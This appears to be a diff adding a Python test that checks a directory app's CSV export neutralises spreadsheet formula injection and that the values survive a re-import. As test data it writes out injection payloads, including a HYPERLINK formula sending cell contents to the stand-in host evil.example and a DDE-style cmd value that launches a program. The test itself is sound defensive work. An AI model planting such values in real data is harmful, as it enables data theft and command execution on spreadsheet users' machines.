@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -93,3 +94,28 @@ def test_the_export_is_valid_hsds_3(world: SimpleNamespace, listed: SimpleNamesp
         item["id"]: validation.errors(item, "service.json") for item in document["contents"]
     }
     assert {key: found for key, found in problems.items() if found} == {}
+
+
+def test_the_csv_files_defuse_spreadsheet_formulas_and_read_back_as_they_were(
+    tmp_path: Path, world: SimpleNamespace, listed: SimpleNamespace
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    Service.objects.filter(pk=listed.advice.pk).update(name=formula, description="@SUM(A1:A9)")
+    Organization.objects.filter(pk=listed.advice.organization_id).update(name="+cmd|' /C calc'!A0")
+    files = dict(exporter.tabular_files())
+    services = {row["id"]: row for row in csv.DictReader(io.StringIO(files["services.csv"]))}
+    row = services[str(listed.advice.pk)]
+    assert (row["name"], row["description"]) == ("'" + formula, "'@SUM(A1:A9)")
+    organizations = list(csv.DictReader(io.StringIO(files["organizations.csv"])))
+    assert "'+cmd|' /C calc'!A0" in [row["name"] for row in organizations]
+    # A negative longitude is a number, not a formula: it is written as it is.
+    locations = list(csv.DictReader(io.StringIO(files["locations.csv"])))
+    assert "-1.7" in [row["longitude"] for row in locations]
+
+    package = tmp_path / "directory.zip"
+    exporter.write(package)
+    _empty_directory()
+    assert import_path(package).rejected == []
+    advice = Service.objects.get(pk=listed.advice.pk)
+    assert (advice.name, advice.description) == (formula, "@SUM(A1:A9)")
+    assert advice.organization.name == "+cmd|' /C calc'!A0"
